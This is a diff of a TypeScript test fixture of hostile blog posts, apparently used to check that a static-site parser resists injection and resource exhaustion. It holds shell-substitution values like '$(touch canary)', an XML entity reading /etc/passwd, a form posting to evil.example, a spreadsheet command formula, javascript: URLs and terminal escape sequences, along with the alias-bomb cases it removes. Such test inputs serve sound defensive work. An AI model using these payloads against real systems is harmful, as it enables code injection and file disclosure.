@@ -1,14 +1,11 @@
 import { payloads } from './payloads.ts';
+import { addressPosts } from './posts-of-addresses.ts';
+import { weightyPosts } from './posts-of-weight.ts';
+import { links, post, withBody } from './write-post.ts';
 
 const canary = "require('node:fs').writeFileSync('canary', '')";
 const script = `(() => { ${canary}; globalThis.finewsCanary = true; return 'x' })()`;
 
-/** Lists of ten aliases of lists of ten aliases. */
-const aliases = Array.from(
-  { length: 30 },
-  (_, level) => `a${level + 1}: &a${level + 1} [${Array(10).fill(`*a${level}`).join(', ')}]`,
-);
-const bomb = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]', ...aliases].join('\n');
 const everything = Object.values(payloads).join(' ');
 const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');
 
@@ -17,6 +14,8 @@ const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16l
  * the payloads beside this file can do together.
  */
 export const hostilePosts: { readonly [name: string]: string | Uint8Array } = {
+  ...weightyPosts,
+  ...addressPosts,
   // Code that wants to run.
   'front matter in JavaScript': `---js\n{ title: ${script} }\n---\nText.\n`,
   'front matter in JavaScript, spelt otherwise': `--- JavaScript \n{ title: ${script} }\n---\nText.\n`,
@@ -39,34 +38,27 @@ export const hostilePosts: { readonly [name: string]: string | Uint8Array } = {
     'title: "$(touch canary)`touch canary`"\nslug: "$(touch canary)"\n' +
       "categories: ['$(touch canary)', '`touch canary`', ';touch canary']\ntags: ['$(touch canary)']",
   ),
-  // Memory and time.
-  'an alias bomb in the tags': post(`${bomb}\ntags: *a30`),
-  'an alias bomb as the title': post(`${bomb}\ntitle: *a30`),
-  'an alias bomb as a key': post(`${bomb}\n? *a30\n: x`),
-  'an alias of itself': post('title: &a [*a]\ntags: &b { b: *b }'),
-  'merged keys': post('base: &base { title: a, __proto__: { b: c } }\n<<: *base'),
-  'a front matter of brackets': post(`title: t\nx: ${'['.repeat(8000)}`),
-  'a title of a megabyte': post(`title: ${'长'.repeat(350_000)}`),
-  'a category of a megabyte': post(`title: t\ncategories: ["${'类'.repeat(350_000)}"]`),
-  'ten thousand tags': post(`title: t\ntags: [${Array.from({ length: 3000 }, (_, tag) => tag).join(', ')}]`),
-  'two hundred keys of one name': post('title: a\n'.repeat(200)),
-  'a table of 40,000 cells': withBody(`<table><tr>${'<td>x'.repeat(40_000)}</table>`),
-  'a table of 1,000 columns': withBody(`|${'a|'.repeat(1000)}\n|${'-|'.repeat(1000)}\n|${'b|'.repeat(1000)}`),
-  'a cell over a billion columns': withBody(
-    '<table><tr><td colspan="1000000000" rowspan="1000000000">x</table>',
+  'kramdown that is code': withBody(
+    `text{: onclick="${canary}" style="x:expression(1)"}\n{:toc}\n{::options parse_block_html="true" /}`,
   ),
-  'a list that begins at the end of numbers': withBody(
-    '99999999999999999999. a\n\n<ol start="9e99"><li>b</ol>',
+  'a comment in a comment, unclosed': withBody('<!-- <!-- --> --> <!-- \u001b[31m'),
+  'CDATA, declarations and instructions': withBody(
+    '<![CDATA[<script>x</script>]]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<?php x ?>',
   ),
-  'elements 20,000 deep': withBody(`${'<div>'.repeat(20_000)}text`),
-  'a quote 5,000 deep': withBody(`${'>'.repeat(5000)} text`),
-  'a list 5,000 deep': withBody(`${'- '.repeat(5000)}text`),
-  'emphasis 20,000 deep': withBody(`${'*a '.repeat(20_000)}${'_b '.repeat(20_000)}`),
-  'links 20,000 deep': withBody('['.repeat(20_000)),
-  'a hundred thousand references': withBody('&amp;'.repeat(100_000)),
-  'a line of a megabyte': withBody('a'.repeat(1_000_000)),
-  'a megabyte of marks': withBody(`a${'\u0301'.repeat(350_000)}`),
-  'a megabyte of signs without width': withBody(`a${'\u200b'.repeat(350_000)}b`),
+  'a picture that is a page': withBody(
+    '![x](data:image/svg+xml;base64,PHN2Zy8+) <img src="data:text/html,x" alt="\u001b]0;owned\u0007">',
+  ),
+  'a style that hides': withBody(
+    '<p style="display:none">x</p><p style="position:fixed">y</p><style>*{display:none}</style>',
+  ),
+  'a base and a refresh': withBody(
+    '<base href="javascript:"><meta http-equiv="refresh" content="0;url=file:///"><a href="x">y</a><link rel=x href=file:///>',
+  ),
+  'a form that sends': withBody(
+    '<form action="https://evil.example"><input name=a autofocus onfocus=x><button formaction=javascript:x>b</button></form>',
+  ),
+  'a formula of a spreadsheet': post('title: "=cmd|\'/c calc\'!A1"\ntags: ["@SUM(1)", "+1", "-1"]'),
+  'a title of a terminal multiplexer': post('title: "#(touch canary) #{pane_title} %(touch canary)"'),
   'footnotes that refer to each other': withBody('a[^1]\n\n[^1]: b[^2]\n\n[^2]: c[^1]'),
   // Names that are something else to a program.
   'keys of objects': post(
@@ -81,43 +73,6 @@ export const hostilePosts: { readonly [name: string]: string | Uint8Array } = {
   'a title of lines': post('title: "a\\nb\\r\\nc\\x85d\\u2028e"'),
   'a date that is an order': post('title: t\ndate: "2024-03-05 \\e[2J\\a$(touch canary)"'),
   'a date beyond all calendars': post('title: t\ndate: 999999-99-99 99:99:99 +99:99'),
-  // Addresses.
-  'addresses that are programs': withBody(
-    links(
-      'javascript:alert(1)',
-      'JaVaScRiPt:alert(1)',
-      'java&#9;script:alert(1)',
-      'vbscript:x',
-      '&#1;javascript:x',
-    ),
-  ),
-  'addresses of this machine': withBody(
-    links('file:///etc/passwd', 'FILE:/etc/passwd', 'ftp://a/', 'smb://a/', '\\\\a\\b'),
-  ),
-  'addresses that are documents': withBody(
-    links('data:text/html,<script>alert(1)</script>', 'blob:https://a.example/1'),
-  ),
-  'addresses with names and passwords': withBody(
-    links('https://bank.example:443@evil.example/', 'https://u:p@a.example/'),
-  ),
-  'addresses that are options': withBody(links('--incognito', '-e', 'https:--x')),
-  'addresses with the signs of a shell': withBody(
-    links('https://a.example/$(touch canary)`touch canary`;touch canary&"\'|'),
-  ),
-  'addresses of several lines': withBody(
-    '[a](<https://a.example/\n\u001b[31m>) <a href="https://a.example/\n\u001b]8;;file:///x\u0007">b</a>',
-  ),
-  'addresses that end the link': withBody(
-    links('https://a.example/\u001b\\\u001b]0;owned\u0007', 'https://a.example/%1b%5c%07'),
-  ),
-  'addresses in letters that look alike': withBody(
-    links('https://\u0430pple.com/', 'https://a.example/\u202efdp.exe', 'https://ａ.example/'),
-  ),
-  'an address of a megabyte': withBody(links(`https://a.example/${'a'.repeat(1_000_000)}`)),
-  'an original that is a program': post(
-    'title: t\noriginal_url: javascript:alert(1)\nsource: file:///etc/passwd',
-  ),
-  'letters to everybody': withBody(links('mailto:a@a.example?bcc=b@b.example&attach=/etc/passwd%0d%0aBcc:c')),
   // Bytes that are no text.
   'no bytes at all': new Uint8Array(),
   zeros: new Uint8Array(4096),
@@ -159,18 +114,3 @@ export const hostilePosts: { readonly [name: string]: string | Uint8Array } = {
     `## ${everything}\n\n> ${everything}\n\n- ${everything}\n\n| ${everything} |\n| - |\n\n${links(everything)}`,
   ),
 };
-
-function post(keys: string, body = 'Text.'): string {
-  return `---\n${keys}\n---\n${body}\n`;
-}
-
-function withBody(body: string): string {
-  return post('title: t\ndate: 2024-03-05', body);
-}
-
-/** In Markdown, in HTML and as they stand. */
-function links(...urls: readonly string[]): string {
-  return urls
-    .map(url => `[a](<${url}>) [b](${url}) <a href="${url}">c</a> <${url}> ${url} ![d](<${url}>)`)
-    .join('\n\n');
-}
